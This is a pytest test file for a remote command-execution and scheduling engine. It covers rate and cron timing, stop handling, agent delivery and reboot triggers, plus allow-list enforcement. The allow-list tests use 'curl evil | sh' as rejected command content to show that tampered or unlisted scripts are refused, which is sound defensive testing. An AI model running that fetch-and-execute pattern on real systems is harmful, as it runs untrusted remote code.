"""The engine with a controllable clock: rate and cron fire on time, periodic invocations stay
Running, stop works, and tasks no agent collected fail with AgentNotOnline."""

from datetime import datetime, timezone

import pytest

from diag.commands import delivery
from diag.commands.engine import Commands, Settings
from diag.commands.model import CommandError
from diag.db import Database
from diag.events import EventLog

LOCAL, REMOTE = "i-local", "i-remote"
T0 = datetime(2026, 3, 2, 0, 0, 30, tzinfo=timezone.utc).timestamp()  # a Monday


@pytest.fixture
def engine(tmp_path):
    db = Database(tmp_path / "diag.db")
    e = Commands(db, EventLog(db), Settings(local_id=LOCAL, delivery_timeout=60), local_boot_id="boot-1")
    yield e
    e.close()
    db.close()


def command(content="echo ok {{diag::InstanceId}}", timeout=10.0, name="t", params=None):
    return {"command_id": "c-1", "name": name, "content": content, "parameters": params or [], "timeout": timeout,
            "working_dir": "", "username": ""}


AUDIT = {"who": "test", "source": "127.0.0.1"}


def records(inv, instance=LOCAL):
    return next(i for i in inv["instances"] if i["instance_id"] == instance)["records"]


def test_rate_fires_on_the_rate_and_stays_running(engine):
    inv = engine.invoke(command(), [LOCAL], {}, "Period", "rate(2m)", None, AUDIT, now=T0)
    iid = inv["invoke_id"]
    assert inv["next_run"] == T0 + 120  # not at creation (seed 001)
    engine.tick(T0 + 119)
    assert records(engine.invocation(iid)) == []
    engine.tick(T0 + 120)
    engine.drain()
    got = engine.invocation(iid)
    assert [r["status"] for r in records(got)] == ["Finished"]
    assert records(got)[0]["output"] == f"ok {LOCAL}\n"
    assert got["status"] == "Running" and got["instances"][0]["status"] == "Running"
    assert got["next_run"] == T0 + 240
    engine.tick(T0 + 250)  # late: one run, and the rate keeps its phase
    engine.drain()
    got = engine.invocation(iid)
    assert len(records(got)) == 2 and got["next_run"] == T0 + 360 and got["status"] == "Running"
    stopped = engine.stop(iid, now=T0 + 300)
    assert stopped["status"] == "Stopped" and stopped["next_run"] is None
    engine.tick(T0 + 400)
    assert len(records(engine.invocation(iid))) == 2


def test_cron_follows_the_time_zone_and_monday_is_1(engine):
    # 12:00 in Shanghai on Wednesdays (3 = WED when 1 = Monday) = 04:00 UTC
    inv = engine.invoke(command(), [LOCAL], {}, "Period", "0 0 12 ? * 3 Asia/Shanghai", None, AUDIT, now=T0)
    wed = datetime(2026, 3, 4, 4, 0, 0, tzinfo=timezone.utc).timestamp()
    assert inv["next_run"] == wed
    engine.tick(wed - 1)
    assert records(engine.invocation(inv["invoke_id"])) == []
    engine.tick(wed)
    engine.drain()
    got = engine.invocation(inv["invoke_id"])
    assert [r["status"] for r in records(got)] == ["Finished"] and got["status"] == "Running"
    assert got["next_run"] == wed + 7 * 86400


def test_cron_that_cannot_be_honoured_is_refused(engine):
    with pytest.raises(CommandError) as e:
        engine.invoke(command(), [LOCAL], {}, "Period", "0 0 12 15W * ?", None, AUDIT, now=T0)
    assert e.value.field == "frequency" and "W" in e.value.message
    with pytest.raises(CommandError) as e:
        engine.invoke(command(timeout=120), [LOCAL], {}, "Period", "0 * * * * ?", None, AUDIT, now=T0)
    assert "at least the timeout" in e.value.message
    with pytest.raises(CommandError) as e:  # "no specific value" for both day fields says nothing
        engine.invoke(command(), [LOCAL], {}, "Period", "0 0 12 ? * ?", None, AUDIT, now=T0)
    assert e.value.field == "frequency" and "not both" in e.value.message


def test_at_runs_once(engine):
    at = datetime.fromtimestamp(T0 + 3600, timezone.utc).isoformat()
    inv = engine.invoke(command(), [LOCAL], {}, "Once", f"at({at})", None, AUDIT, now=T0)
    assert inv["status"] == "Running" and inv["instances"][0]["status"] == "Pending"
    engine.tick(T0 + 3600)
    engine.drain()
    engine.tick(T0 + 7200)
    got = engine.invocation(inv["invoke_id"])
    assert got["status"] == "Finished" and len(records(got)) == 1 and got["next_run"] is None


def test_stop_kills_a_running_local_record(engine):
    import time

    inv = engine.invoke(command("sleep 600", timeout=600), [LOCAL], {}, "Once", None, None, AUDIT)
    while records(engine.invocation(inv["invoke_id"]))[0]["status"] != "Running":
        time.sleep(0.02)
    engine.stop(inv["invoke_id"])
    engine.drain()
    got = engine.invocation(inv["invoke_id"])
    assert got["status"] == "Stopped" and records(got)[0]["status"] == "Stopped"


def test_agent_not_online_after_the_delivery_timeout(engine):
    inv = engine.invoke(command(), [REMOTE], {}, "Once", None, None, AUDIT, now=T0)
    engine.tick(T0 + 59)
    assert engine.invocation(inv["invoke_id"])["status"] == "Running"
    engine.tick(T0 + 61)
    got = engine.invocation(inv["invoke_id"])
    rec = records(got, REMOTE)[0]
    assert got["status"] == "Failed" and rec["error_code"] == "AgentNotOnline"


def test_a_simulated_agent_takes_its_task_and_reports(engine):
    inv = engine.invoke(command("echo hi {{diag::InstanceId}}"), [REMOTE, LOCAL], {}, "Once", None, None, AUDIT,
                        now=T0)
    assert delivery.poll(engine, "i-other", None, now=T0 + 1)["tasks"] == []  # not another instance's
    got = delivery.poll(engine, REMOTE, "b1", now=T0 + 1)
    # The value travels beside the script, never inside it (parameters.py).
    assert [(t["script"], t["env"]) for t in got["tasks"]] == [
        ('echo hi ${DIAG_INSTANCE_ID+"${DIAG_INSTANCE_ID}"}', {"DIAG_INSTANCE_ID": "i-remote"})]
    assert delivery.poll(engine, REMOTE, "b1", now=T0 + 2)["tasks"] == []  # handed out once
    task = got["tasks"][0]["task_id"]
    with pytest.raises(CommandError):
        delivery.result(engine, "i-other", task, {"status": "Finished"})
    delivery.result(engine, REMOTE, task, {"status": "Finished", "exit_code": 0, "output_b64": "aGkK"})
    engine.drain()
    final = engine.invocation(inv["invoke_id"], now=T0 + 3)
    assert records(final, REMOTE)[0]["output"] == "hi\n"
    assert final["status"] == "Finished"


def test_every_reboot_fires_on_a_new_boot_id(engine):
    inv = engine.invoke(command(), [REMOTE], {}, "EveryReboot", None, None, AUDIT, now=T0)
    delivery.poll(engine, REMOTE, "boot-a", now=T0 + 1)  # the baseline
    assert records(engine.invocation(inv["invoke_id"]), REMOTE) == []
    got = delivery.poll(engine, REMOTE, "boot-b", now=T0 + 100)
    assert len(got["tasks"]) == 1
    assert engine.invocation(inv["invoke_id"])["status"] == "Running"


def test_next_reboot_only_fires_on_the_next_boot_and_never_again(engine):
    inv = engine.invoke(command(), [REMOTE], {}, "NextRebootOnly", None, None, AUDIT, now=T0)
    delivery.poll(engine, REMOTE, "boot-a", now=T0 + 1)  # the baseline
    assert len(delivery.poll(engine, REMOTE, "boot-b", now=T0 + 100)["tasks"]) == 1
    for n, boot in enumerate(("boot-c", "boot-d")):
        assert delivery.poll(engine, REMOTE, boot, now=T0 + 200 + n)["tasks"] == []
    assert len(records(engine.invocation(inv["invoke_id"]), REMOTE)) == 1


def test_allow_list(tmp_path):
    db = Database(tmp_path / "a.db")
    e = Commands(db, EventLog(db), Settings(local_id=LOCAL, allow=("rotate",)))
    try:
        with pytest.raises(CommandError) as err:
            e.invoke(command(name="other"), [LOCAL], {}, "Once", None, None, AUDIT)
        assert err.value.status == 403
        e.invoke(command(name="rotate"), [LOCAL], {}, "Once", None, None, AUDIT)
        e.drain()
    finally:
        e.close()
        db.close()


def test_invocations_are_audited_as_events(engine):
    inv = engine.invoke(command(), [LOCAL], {}, "Once", None, None, AUDIT, now=T0)
    engine.drain()
    ev = engine.events.list(LOCAL, types=["Command.Invoked"])
    assert len(ev) == 1 and ev[0]["details"]["labels"]["invoke_id"] == inv["invoke_id"]
    assert ev[0]["details"]["labels"]["content_sha256"] == inv["audit"]["content_sha256"]


def test_allow_list_pins_the_content_of_a_bare_name(tmp_path):
    db = Database(tmp_path / "a.db")
    e = Commands(db, EventLog(db), Settings(local_id=LOCAL, allow=("rotate",)))
    try:
        e.save_command("c-1", command(name="rotate", content="logrotate -f /etc/logrotate.conf"), T0)
        e.save_command("c-1", command(name="rotate", content="logrotate -f /etc/logrotate.conf"), T0)  # unchanged
        for cid in ("c-1", "c-2"):  # changing it, or a second command of that name, is refused
            with pytest.raises(CommandError) as err:
                e.save_command(cid, command(name="rotate", content="curl evil | sh"), T0)
            assert (err.value.status, err.value.field) == (403, "content")
        e.repo.delete_command("c-1")
        with pytest.raises(CommandError):  # deleting does not unpin the name
            e.save_command("c-3", command(name="rotate", content="curl evil | sh"), T0)
        e.save_command("c-4", command(name="other", content="anything"), T0)  # not allow-listed: saved, never run
    finally:
        e.close()
        db.close()


def test_allow_list_one_off_commands_need_their_digest(tmp_path):
    import hashlib

    body = "echo one-off"
    digest = hashlib.sha256(body.encode()).hexdigest()
    db = Database(tmp_path / "a.db")
    e = Commands(db, EventLog(db), Settings(local_id=LOCAL, allow=("rotate", f"echo@{digest}")))
    try:
        with pytest.raises(CommandError) as err:  # a bare name is no licence for one-off content
            e.invoke(command(name="rotate", content="curl evil | sh"), [LOCAL], {}, "Once", None, None, AUDIT,
                     adhoc=True)
        assert err.value.status == 403
        e.invoke(command(name="echo", content=body), [LOCAL], {}, "Once", None, None, AUDIT, adhoc=True)
        e.drain()
    finally:
        e.close()
        db.close()


def test_allow_list_covers_sent_files(tmp_path):
    db = Database(tmp_path / "a.db")
    e = Commands(db, EventLog(db), Settings(local_id=LOCAL, allow=("rotate", f"file:{tmp_path}/ok.conf")))
    spec = {"file_name": "x", "content_b64": "eA==", "target_dir": "/etc/cron.d", "mode": "0644", "owner": "",
            "group": "", "overwrite": False, "timeout": 60}
    try:
        with pytest.raises(CommandError) as err:
            e.send_file(spec, [LOCAL], AUDIT)
        assert (err.value.status, err.value.field) == (403, "target_dir")
        e.send_file({**spec, "file_name": "ok.conf", "target_dir": str(tmp_path)}, [LOCAL], AUDIT)
        e.drain()
        assert (tmp_path / "ok.conf").read_bytes() == b"x"
    finally:
        e.close()
        db.close()
